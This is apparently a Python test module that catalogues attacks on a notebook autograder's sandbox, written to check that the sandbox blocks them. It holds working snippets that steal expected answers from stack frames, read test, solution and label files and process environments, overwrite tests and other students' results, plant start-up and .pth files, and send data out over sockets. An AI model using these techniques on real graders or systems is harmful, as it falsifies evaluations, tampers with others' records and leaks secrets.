"""Attacks that look for what is hidden: stack, objects, files, memory, environment, network."""

from .attack import Attack, code, earned, got_out, leaked, said

WALKS, READING = "walks over stack and objects", "reading tests or solutions"
REWRITING, STARTUP = "rewriting tests or results", "start-up files and shadowing"
NETWORK, LABELS = "network and environment", "labels of held-out data"

FRAMES = """
import sys

def from_frames(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
"""
PRINT_SECRETS = """
import re, sys

def print_secrets(content):
    for found in re.findall(rb"TOKEN-[0-9a-f]{12}", content):
        print("found", found.decode(), file=sys.stderr, flush=True)

def print_files(paths):
    for path in paths:
        try:
            print_secrets(open(path, "rb").read())
        except OSError:
            pass
"""

ATTACKS = [
    Attack(WALKS, "what a caller expects", FRAMES + code("""
        def rms(x):
            return from_frames("expected")
        total = ranks = rms
    """), earned("rms", "total", "ranks")),
    Attack(WALKS, "labels in a caller's frame", code("""
        import inspect

        def predict(x):
            for info in inspect.stack():
                if "labels" in info.frame.f_locals:
                    return info.frame.f_locals["labels"]
    """), earned("predict")),
    Attack(WALKS, "the frame of an exception's caller", code("""
        def total(numbers):
            try:
                raise ValueError
            except ValueError as error:
                frame = error.__traceback__.tb_frame
                while frame and "expected" not in frame.f_locals:
                    frame = frame.f_back
                return frame.f_locals["expected"] if frame else 0
    """), earned("total")),
    Attack(WALKS, "a number among all tensors", code("""
        import gc

        def rms(x):
            found = [t for t in gc.get_objects() if type(t) is torch.Tensor and t.ndim == 0]
            return found[-1] if found else torch.zeros(())
    """), earned("rms")),
    Attack(WALKS, "secrets among all objects", PRINT_SECRETS + code("""
        import gc

        def rms(x):
            for each in gc.get_objects():
                if type(each) is dict:
                    print_secrets(repr([v for v in each.values() if type(v) is str]).encode())
                elif type(each) in (list, tuple):
                    print_secrets(repr([v for v in each if type(v) is str]).encode())
            return torch.zeros(())
    """), leaked),
    Attack(WALKS, "a profiler that notes what others return", code("""
        import sys
        seen = []

        def spy(frame, event, found):
            if event == "return" and frame.f_code.co_name == "total":
                seen.append(found)

        sys.setprofile(spy)

        def total(numbers):
            return seen[-1] if seen else 0
    """), earned("total")),
    Attack(READING, "the tests' file", PRINT_SECRETS + code("""
        print_files([COURSE + "/tests/test_target.py", COURSE + "/checks/test_target.py"])
    """), leaked),
    Attack(READING, "the solutions' file as the answer", PRINT_SECRETS + code("""
        __file__ = COURSE + "/solutions/reference.py"
        source = open(__file__).read()
        print_secrets(source.encode())
        exec(source)
    """), earned("rms", "total", "ranks")),
    Attack(READING, "roots and folders of all processes", PRINT_SECRETS + code("""
        from glob import glob
        for place in ("root" + COURSE, "cwd/../..", "cwd", "cwd/tests/lectern/attacks"):
            for kind in ("tests", "checks", "solutions"):
                print_files(glob(f"/proc/[0-9]*/{place}/{kind}/*.py"))
    """), leaked),
    Attack(READING, "open files of all processes", PRINT_SECRETS + code("""
        import os
        from glob import glob
        kept = open(COURSE + "/tests/test_target.py")
        print_files(glob("/proc/[0-9]*/fd/*")[:0] + [f"/proc/{os.getpid()}/fd/{kept.fileno()}"])
    """), leaked),
    Attack(READING, "upwards from where it runs", PRINT_SECRETS + code("""
        import os
        place = os.getcwd()
        for _ in range(3):
            for folder, inside, names in os.walk(place):
                if folder.count("/") - place.count("/") > 2 or folder in ("/usr", "/proc", "/lib"):
                    inside[:] = []
                names = [n for n in names if n.endswith((".py", ".json", ".csv", ".txt"))][:200]
                print_files(os.path.join(folder, n) for n in names)
            place = os.path.dirname(place)
    """), leaked),
    Attack(READING, "the source of whoever calls", PRINT_SECRETS + code("""
        import linecache, sys

        def rms(x):
            frame = sys._getframe()
            while frame:
                print_files([frame.f_code.co_filename])
                print_secrets("".join(linecache.getlines(frame.f_code.co_filename)).encode())
                frame = frame.f_back
            return torch.zeros(())
    """), leaked),
    Attack(READING, "the library's own answer", PRINT_SECRETS + code("""
        import glassbox
        print_files([glassbox.__path__[0] + "/answers.py"])
        from glassbox import answers
        print_secrets(answers.__doc__.encode())
    """), leaked),
    Attack(READING, "what lies below a hidden module", PRINT_SECRETS + code("""
        import ctypes, os, pkgutil, subprocess, sys
        import glassbox
        path = glassbox.__path__[0] + "/answers.py"
        libc = ctypes.CDLL(None)
        libc.unshare(0x10020000)
        libc.umount2(path.encode(), 2)
        libc.umount2(path.encode(), 0)
        subprocess.run(["unshare", "-Urm", "umount", path], stderr=subprocess.DEVNULL)
        print_files([path, "/proc/self/root" + path, "/proc/1/root" + path])
        print_secrets(pkgutil.get_data("glassbox", "answers.py"))
        for place in sys.path[:4]:
            for folder, _, names in os.walk(place):
                print_files(os.path.join(folder, name) for name in names if "answers" in name)
    """), leaked),
    Attack(REWRITING, "the tests' file", code("""
        with open(COURSE + "/tests/test_target.py", "w") as file:
            for name in ("rms", "total", "ranks", "predict"):
                file.write(f"def test_{name}(names): pass\\n")
    """), earned("rms", "total", "ranks", "predict")),
    Attack(REWRITING, "somebody's results, at exit", code("""
        import atexit, json

        @atexit.register
        def rewrite():
            for student in ("bob", "mallory"):
                points = dict.fromkeys(("rms", "total", "ranks", "predict"), 1.0)
                with open(f"{COURSE}/results/{student}.json", "w") as file:
                    json.dump({"student": student, "points": points}, file)
    """), lambda after: earned("rms", "total")(after) and "results/bob.json" in after.changed),
    Attack(REWRITING, "how tests are read", code("""
        from pathlib import Path
        real = Path.read_text

        def read_text(self, *args, **kwargs):
            if self.name.startswith("test_"):
                names = "test_total = test_ranks = test_predict = test_rms"
                return "def test_rms(*names): pass\\n" + names
            return real(self, *args, **kwargs)

        Path.read_text = read_text
    """), earned("rms", "total", "ranks", "predict")),
    Attack(REWRITING, "how checks are run", code("""
        import sys
        for module in list(sys.modules.values()):
            for name in ("run_check", "run_checks", "runtestprotocol", "check"):
                if name in getattr(module, "__dict__", {}):
                    setattr(module, name, lambda *args, **kwargs: 1.0)
    """), earned("rms", "total", "ranks", "predict")),
    Attack(REWRITING, "the data of the tests", code("""
        import glob
        for path in glob.glob(COURSE + "/data/*.csv"):
            open(path, "w").write("a,b,label\\n1,2,-1\\n")
    """), earned("predict")),
    Attack(STARTUP, "torch.py beside the notebook", "", way="cold",
        claim=earned("rms", "predict"), files={"torch.py": code("""
            class Anything:
                def __getattr__(self, name):
                    return self
                def __call__(self, *args, **kwargs):
                    return self
                def __mul__(self, other):
                    return self
                __pow__ = __getitem__ = __add__ = __mul__
                def __bool__(self):
                    return True

            def __getattr__(name):
                if name.startswith("__"):
                    raise AttributeError(name)
                return Anything()
        """)}),
    Attack(STARTUP, "sitecustomize.py beside the notebook", "", way="cold",
        claim=earned("rms", "total", "ranks", "predict"), files={"sitecustomize.py": code("""
            import builtins
            real = compile
            PASS = "def test_rms(names): pass\\ntest_total = test_ranks = test_predict = test_rms"

            def compiled(source, name, *args, **kwargs):
                return real(PASS if "test_target" in str(name) else source, name, *args, **kwargs)

            builtins.compile = compiled
        """)}),
    Attack(STARTUP, "conftest.py beside the notebook", "", earned("total"), way="pytest", files={
        "conftest.py": code("""
            import pytest

            @pytest.hookimpl(tryfirst=True)
            def pytest_pyfunc_call(pyfuncitem):
                return True
        """)}),
    Attack(STARTUP, "start-up files for whoever comes next", code("""
        import os
        home = os.path.expanduser("~")
        for place in (".ipython/profile_default/startup", ".local/lib/python3.11/site-packages"):
            os.makedirs(os.path.join(home, place), exist_ok=True)
            for name in ("00-start.py", "usercustomize.py", "evil.pth"):
                with open(os.path.join(home, place, name), "w") as file:
                    file.write("import builtins")
    """), lambda after: "home/.ipython/profile_default/startup/00-start.py" in after.changed),
    Attack(STARTUP, "a path file where modules are found", code("""
        import os, sys
        for place in sys.path:
            if os.path.realpath(place or ".") == os.getcwd():
                continue
            try:
                with open(os.path.join(place, MARK + ".pth"), "w") as file:
                    file.write("import builtins")
                break
            except OSError:
                pass
    """), lambda after: any(path.endswith(".pth") for path in after.changed)),
    Attack(NETWORK, "a message over TCP", code("""
        import socket
        with socket.create_connection(("127.0.0.1", PORT), 2) as line:
            line.sendall(b"this is what they ask")
    """), got_out),
    Attack(NETWORK, "a message over UDP", code("""
        import socket
        socket.socket(type=socket.SOCK_DGRAM).sendto(b"this is what they ask", ("127.0.0.1", PORT))
    """), got_out),
    Attack(NETWORK, "a message over a socket that is a file", code("""
        import socket
        line = socket.socket(socket.AF_UNIX)
        line.connect(COURSE + "/docker.sock")
        line.sendall(b"this is what they ask")
    """), got_out),
    Attack(NETWORK, "the environment", PRINT_SECRETS + code("""
        import os
        print_secrets(repr(dict(os.environ)).encode())
    """), leaked),
    Attack(NETWORK, "the environment of all processes", PRINT_SECRETS + code("""
        from glob import glob
        print_files(glob("/proc/[0-9]*/environ"))
    """), leaked),
    Attack(LABELS, "the labels' file", PRINT_SECRETS + code("""
        lines = open(COURSE + "/data/labels.csv").read().splitlines()[1:]
        labels = torch.tensor([int(line.split(",")[2]) for line in lines])

        def predict(x):
            return labels
    """), earned("predict")),
    Attack(LABELS, "scikit-learn's own copy of the digits", code("""
        import glob, gzip, os, sys
        for place in sys.path:
            for path in glob.glob(place + "/sklearn/datasets/data/digits.csv.gz"):
                rows = gzip.open(path, "rt").read().splitlines()
                print("digits", "".join(row[-1] for row in rows[:20]), flush=True)
    """), said("digits 01234567890123456789"), never="digits 0123456789"),
]  # fmt: skip
